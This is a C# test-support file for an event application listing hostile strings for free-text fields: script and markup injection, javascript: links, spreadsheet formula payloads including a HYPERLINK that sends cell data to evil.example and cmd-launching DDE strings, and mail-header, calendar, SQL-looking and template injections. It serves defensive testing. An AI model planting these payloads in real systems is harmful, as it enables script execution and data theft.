namespace EventHub.Tests.Support;

/// <summary>
/// Text a partner or a careless (or malicious) colleague could type into any free-text field: markup and script,
/// links that run script, spreadsheet formulas, line breaks in one-line fields (mail header and calendar injection),
/// direction overrides, a very long word, emoji, SQL- and template-looking text, a NUL character. Every payload that
/// could run script tries to set <see cref="PwnedMarker"/>, so a browser test can ask whether anything ran.
/// Each is short enough for the shortest free-text field it goes into (a contact's name: 100 characters).
/// </summary>
public static class HostileStrings
{
    /// <summary>The global variable every script payload sets; it stays undefined on a page where nothing ran.</summary>
    public const string PwnedMarker = "__pwned";

    public const string ScriptTag = "<script>window.__pwned=1</script>";
    public const string ImageOnError = "<img src=x onerror=\"window.__pwned=1\">";
    public const string AttributeBreakout = "\" autofocus onfocus=\"window.__pwned=1\" x=\"";
    public const string SingleQuoteBreakout = "'><body onload=window.__pwned=1>";
    public const string SvgOnLoad = "<svg onload=\"window.__pwned=1\"><circle r=\"9\"/></svg>";
    public const string SvgScript = "<svg><script>window.__pwned=1</script></svg>";
    public const string JavascriptHtmlLink = "<a href=\"javascript:window.__pwned=1\">Klik</a>";
    public const string JavascriptMarkdownLink = "[Klik hier](javascript:window.__pwned=1)";
    public const string DataMarkdownLink = "[Agenda](data:text/html,<script>window.__pwned=1</script>)";
    public const string TrackingPixel = "![pixel](https://tracker.example/p.gif)";
    public const string JavascriptPlainText = "javascript:window.__pwned=1";
    public const string FormulaHyperlink = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Klik\")";
    public const string FormulaPlus = "+1+cmd|' /C calc'!A0";
    public const string FormulaMinus = "-2+3+cmd|' /C calc'!A0";
    public const string FormulaAt = "@SUM(1+1)*cmd|' /C calc'!A0";
    public const string FormulaTab = "\t=1+1";
    public const string FormulaCarriageReturn = "\r=1+1";
    public const string MailHeaderInjection = "Agenda\r\nBcc: victim@evil.example";
    public const string CalendarInjection = "Overleg\r\nATTENDEE:mailto:evil@evil.example\nX-INJECTED:1";
    public const string RightToLeftOverride = "Verslag \u202Egpj.exe";
    public const string VeryLongWord = "Samenwerkingsverbandondersteuningsplanonderwijsachterstandenbeleidsuitvoeringsevaluatierapport";
    public const string Emoji = "Team 👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 ❤️";
    public const string SqlLooking = "Robert'); DROP TABLE Contacts;--";
    public const string TemplateLooking = "{{7*7}} ${7*7} @(7*7) @DateTime.Now";
    public const string Nul = "Nul\0teken";

    /// <summary>Every payload, with a name for failure messages.</summary>
    public static readonly IReadOnlyList<(string Name, string Value)> All =
    [
        (nameof(ScriptTag), ScriptTag),
        (nameof(ImageOnError), ImageOnError),
        (nameof(AttributeBreakout), AttributeBreakout),
        (nameof(SingleQuoteBreakout), SingleQuoteBreakout),
        (nameof(SvgOnLoad), SvgOnLoad),
        (nameof(SvgScript), SvgScript),
        (nameof(JavascriptHtmlLink), JavascriptHtmlLink),
        (nameof(JavascriptMarkdownLink), JavascriptMarkdownLink),
        (nameof(DataMarkdownLink), DataMarkdownLink),
        (nameof(TrackingPixel), TrackingPixel),
        (nameof(JavascriptPlainText), JavascriptPlainText),
        (nameof(FormulaHyperlink), FormulaHyperlink),
        (nameof(FormulaPlus), FormulaPlus),
        (nameof(FormulaMinus), FormulaMinus),
        (nameof(FormulaAt), FormulaAt),
        (nameof(FormulaTab), FormulaTab),
        (nameof(FormulaCarriageReturn), FormulaCarriageReturn),
        (nameof(MailHeaderInjection), MailHeaderInjection),
        (nameof(CalendarInjection), CalendarInjection),
        (nameof(RightToLeftOverride), RightToLeftOverride),
        (nameof(VeryLongWord), VeryLongWord),
        (nameof(Emoji), Emoji),
        (nameof(SqlLooking), SqlLooking),
        (nameof(TemplateLooking), TemplateLooking),
        (nameof(Nul), Nul),
    ];

    /// <summary>
    /// One line that carries the worst of them at once (markup, script, an override, emoji, a line break), for the
    /// one-line fields everyone sees: event and session titles, organisation names. Under 200 characters.
    /// </summary>
    public const string Headline = "<img src=x onerror=\"window.__pwned=1\"><script>window.__pwned=1</script> 👩‍👩‍👧‍👦 \u202Eomed\u202C\r\nBcc: x@evil.example";

    /// <summary>The payloads that start with a character a spreadsheet reads as the start of a formula (OWASP: = + - @ tab CR).</summary>
    public static IEnumerable<string> Formulas => All.Select(s => s.Value).Where(v => v.Length > 0 && v[0] is '=' or '+' or '-' or '@' or '\t' or '\r');
}
